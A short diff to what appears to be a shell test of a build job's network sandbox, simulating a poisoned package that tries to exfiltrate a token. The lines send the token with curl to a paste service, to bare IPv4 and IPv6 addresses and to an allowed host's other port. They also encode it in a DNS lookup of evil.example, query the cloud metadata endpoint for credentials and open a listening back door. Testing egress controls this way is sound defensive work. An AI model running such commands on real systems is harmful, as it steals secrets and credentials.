@@ -18,7 +18,7 @@ attempt() {
 	sleep 0.15
 }
 
-send() { curl -sS --insecure --http0.9 --max-time 10 --data "$TOKEN" "$1"; }
+send() { curl -4 -sS --insecure --http0.9 --max-time 10 --data "$TOKEN" "$@"; }
 
 # Waits for the outside to have knocked on a port that the job listens on.
 listen() {
@@ -43,7 +43,7 @@ say "a poisoned package runs its install script:"
 attempt "upload the token to a paste service, by name" send https://paste.example/
 attempt "hide the token in a DNS question" getent ahostsv4 "$TOKEN.evil.example"
 attempt "upload to a bare address" send http://203.0.113.66/
-attempt "the same over IPv6" send 'http://[2001:db8:e::66]/'
+attempt "the same over IPv6" send -6 'http://[2001:db8:e::66]/'
 attempt "an allowed address, but another port" send http://198.51.100.11:8081/
 attempt "ask the cloud's metadata service for credentials" send http://169.254.169.254/metadata/identity
 attempt "open a back door on port 8000; the attacker knocks" listen
